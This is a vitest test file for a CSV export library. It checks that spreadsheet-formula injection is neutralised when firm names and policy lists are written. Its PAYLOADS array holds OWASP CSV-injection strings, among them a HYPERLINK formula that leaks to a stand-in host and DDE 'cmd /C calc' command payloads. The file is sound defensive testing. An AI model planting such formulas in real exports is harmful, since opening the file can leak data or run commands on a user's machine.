import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  ENTERPRISES_FILE,
  FORMULA_TRIGGERS,
  formulaSafeCell,
  readCsv,
  restoreFormulaSafeCell,
  writeCsv,
} from '../../src/dataset/index';
import { datasetToFiles, type PolicyListEntry, parseDatasetFiles, policyListCsv } from '../../src/index';
import { ARTICLE_REGISTRY } from '../campaign/article';

/** The payloads of issue #24 and OWASP's CSV-injection page. */
const PAYLOADS = [
  '=HYPERLINK("http://x.invalid/?leak","click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
];

describe('formula-safe CSV cells (OWASP CSV injection)', () => {
  it('neutralises every text cell a spreadsheet would read as a formula', () => {
    for (const p of PAYLOADS) {
      const safe = formulaSafeCell(p);
      expect(safe.startsWith("'"), p).toBe(true);
      expect(FORMULA_TRIGGERS.includes(safe[0] ?? '')).toBe(false);
      expect(restoreFormulaSafeCell(safe)).toBe(p);
    }
  });

  it('keeps numbers numeric and ordinary text as it is', () => {
    for (const n of ['-12.5', '+3', '-0.0015', '1e5', '2019-01-24', '桐乡市', 'A', '']) {
      expect(formulaSafeCell(n)).toBe(n);
    }
    expect(formulaSafeCell('-')).toBe("'-");
    expect(formulaSafeCell('--1')).toBe("'--1");
  });

  it('round-trips any text through restore', () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        expect(restoreFormulaSafeCell(formulaSafeCell(s))).toBe(s);
      }),
    );
  });

  it('writes firms named with the payloads safely and reads them back through mujun’s own reader', () => {
    const names = PAYLOADS.filter((p) => p.trim() === p);
    const keys = [...ARTICLE_REGISTRY.enterprises.keys()].slice(0, names.length);
    const enterprises = new Map(ARTICLE_REGISTRY.enterprises);
    keys.forEach((k, i) => {
      const e = enterprises.get(k);
      if (e) enterprises.set(k, { ...e, name: names[i] ?? e.name });
    });
    const registry = { ...ARTICLE_REGISTRY, enterprises };
    const files = datasetToFiles({ registry, events: [] });
    const text = files[ENTERPRISES_FILE.file] ?? '';
    // No line of the file has a cell a spreadsheet would evaluate.
    const { rows, issues } = readCsv(ENTERPRISES_FILE.file, text, ENTERPRISES_FILE);
    expect(issues).toEqual([]);
    for (const line of text.split('\n').slice(1)) {
      for (const cell of line.split(',')) expect(/^"?[=+@]/.test(cell), line).toBe(false);
    }
    expect(
      rows
        .map((r) => r.cells.name)
        .filter((n) => n !== undefined && names.includes(n))
        .sort(),
    ).toEqual([...names].sort());
    // The whole dataset loads back with the same names (the `mujun export` / `mujun load` path).
    const loaded = parseDatasetFiles(files);
    if (!loaded.ok) throw new Error(JSON.stringify(loaded.issues));
    expect([...loaded.registry.enterprises.values()].map((e) => e.name).sort()).toEqual(
      [...registry.enterprises.values()].map((e) => e.name).sort(),
    );
    // The generic writer round-trips too.
    const again = readCsv(
      'x.csv',
      writeCsv(
        ENTERPRISES_FILE,
        rows.map((r) => r.cells),
      ),
      ENTERPRISES_FILE,
    );
    expect(again.rows.map((r) => r.cells)).toEqual(rows.map((r) => r.cells));
  });

  it('writes the policy list with names neutralised and amounts numeric', () => {
    const entry = (name: string, amount: string | null): PolicyListEntry => ({
      uscc: '91330483MA2B3C4D5E',
      name,
      townCode: '330483108000',
      class: 'D',
      measure: 'electricitySurcharge',
      label: '差别化电价',
      amount: null,
      note: amount,
    });
    const csv = policyListCsv(
      PAYLOADS.map((p) => entry(p, '-30000.00')),
      new Map([['330483108000', '@石门镇']]),
    );
    const { rows } = readCsv('policy.csv', csv, {
      file: 'policy.csv',
      columns: ['统一社会信用代码', '企业名称', '镇(街道)', '分类', '政策措施', '金额(元)', '备注'].map((name) => ({
        name,
        required: false,
        type: 'text',
      })),
    } as unknown as typeof ENTERPRISES_FILE);
    expect(rows.map((r) => r.cells.企业名称)).toEqual(PAYLOADS);
    expect(rows.every((r) => r.cells['镇(街道)'] === '@石门镇')).toBe(true);
    // The raw text: names and town quoted away from formulas; the number left numeric.
    expect(csv).toContain(",'@石门镇,");
    expect(csv).toContain(',-30000.00\n');
    expect(csv).not.toMatch(/,=HYPERLINK/);
  });
});
